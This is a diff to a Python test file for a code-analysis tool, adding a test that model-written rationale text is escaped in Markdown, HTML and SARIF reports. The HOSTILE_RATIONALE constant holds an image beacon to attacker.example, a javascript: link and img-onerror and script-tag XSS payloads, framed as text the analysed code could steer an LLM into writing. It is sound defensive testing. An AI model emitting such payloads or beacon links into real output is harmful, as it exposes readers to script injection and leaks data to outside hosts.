@@ -20,6 +20,7 @@ from trace_advisor.edits import apply_edits, span_edits
 from trace_advisor.edits.verify import same_with_block
 from trace_advisor.index import Index
 from trace_advisor.model import Attribute, Capture
+from trace_advisor.report import default_template, render
 
 from tests.support.fake_model import Received
 from tests.support.openai_server import fake_openai
@@ -216,3 +217,41 @@ def test_long_literals_are_cut_and_a_method_listing_still_parses() -> None:
     assert "system('id')" not in shortened and "x" * (MAX_LITERAL + 1) not in shortened
     assert "return 1" in shortened.splitlines()[6]
     ast.parse(textwrap.dedent(shortened))
+
+
+HOSTILE_RATIONALE = (
+    "Writes orders. ![beacon](http://attacker.example/?c=1) [click](javascript:alert(1)) "
+    "<img src=x onerror=alert(1)> </script><script>alert(2)</script> | cell | # heading **bold**"
+)
+
+
+def test_a_model_rationale_with_markup_is_inert_in_every_report(project: Path) -> None:
+    """The rationale is the model's prose, which the analysed code can steer: every report shows it as text."""
+    index = Index([project], use_cache=False)
+    index.build()
+    config = config_from_mapping({"priorities": {n: {"weight": 0.3} for n in default_config().priorities}}, "test")
+
+    def answer(received: Received) -> str:
+        entries = json.loads(_answer_with_payloads(received))["recommendations"]
+        return json.dumps({"recommendations": [{**e, "rationale": HOSTILE_RATIONALE} for e in entries]})
+
+    with fake_openai() as server:
+        server.answer = answer
+        result = analyze(index, config, provider=openai(server.url, max_attempts=1))
+    assert any(r.rationale.startswith("Writes orders.") for r in result.recommendations)
+
+    markdown = render(result, "md", config=config, root=project)
+    templated = render(result, "md", config=config, root=project, template=default_template())
+    for text in (markdown, templated):
+        line = next(x for x in text.splitlines() if "Writes orders." in x)
+        assert "![" not in line and "](" not in line.replace("\\](", "")  # no image, no link
+        assert "<img" not in line and "<script>" not in line and "&lt;img" in line
+        assert "\\*\\*bold\\*\\*" in line and "\\|" in line  # emphasis and table cells literal
+    page = render(result, "html", config=config, root=project)
+    assert page.count("<script") == 2 and "<img" not in page  # the data block and the page's own script only
+    data = json.loads(re.search(r'id="report-data">(.*?)</script>', page, re.S)[1])  # type: ignore[index]
+    assert HOSTILE_RATIONALE in json.dumps(data, ensure_ascii=False)  # kept whole, as data for textContent
+    sarif = json.loads(render(result, "sarif", config=config, root=project))
+    texts = [r["message"]["text"] for r in sarif["runs"][0]["results"]]
+    assert any(HOSTILE_RATIONALE in t for t in texts)  # SARIF message.text is plain text by the spec
+    assert "markdown" not in json.dumps([r["message"] for r in sarif["runs"][0]["results"]])
